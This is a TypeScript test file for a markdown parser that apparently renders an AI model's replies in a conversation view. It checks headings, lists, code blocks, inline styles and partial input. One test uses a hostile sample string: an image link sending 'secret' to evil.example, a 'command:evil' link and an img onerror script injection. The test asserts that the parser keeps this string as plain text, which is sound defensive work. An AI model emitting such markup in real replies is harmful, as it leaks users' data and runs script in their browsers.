import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parseMarkdown } from '../src/conversation/markdown';

const plain = (text: string) => ({ style: 'plain', text });

test('Paragraphs, lists, headings and code are told apart', () => {
  assert.deepEqual(parseMarkdown('# Title\nOne\ntwo\n\n- a\n- b\n1. c\n```ts\nconst x = 1;\n```'), [
    { type: 'heading', spans: [plain('Title')] },
    { type: 'paragraph', spans: [plain('One\ntwo')] },
    { type: 'list', ordered: false, items: [[plain('a')], [plain('b')]] },
    { type: 'list', ordered: true, items: [[plain('c')]] },
    { type: 'code', language: 'ts', text: 'const x = 1;' },
  ]);
});

test('A code block whose end has not come yet is code', () => {
  assert.deepEqual(parseMarkdown('```\nhalf'), [{ type: 'code', language: '', text: 'half' }]);
});

test('Strong, emphasis and code are styled; what is not closed stays as it is', () => {
  assert.deepEqual(parseMarkdown('a **b** *c* `d` **e'), [
    {
      type: 'paragraph',
      spans: [
        plain('a '),
        { style: 'strong', text: 'b' },
        plain(' '),
        { style: 'emphasis', text: 'c' },
        plain(' '),
        { style: 'code', text: 'd' },
        plain(' **e'),
      ],
    },
  ]);
});

test('Links, images and markup of a model stay text', () => {
  const hostile = '![x](https://evil.example/?q=secret) [y](command:evil) <img src=x onerror=alert(1)>';
  assert.deepEqual(parseMarkdown(hostile), [{ type: 'paragraph', spans: [plain(hostile)] }]);
});

test('Any beginning of a text parses', () => {
  const text = '# H\n**b** `c`\n- i\n1. j\n```x\ny\n```\nz *e*';
  for (let end = 0; end <= text.length; end++) assert.ok(Array.isArray(parseMarkdown(text.slice(0, end))));
});
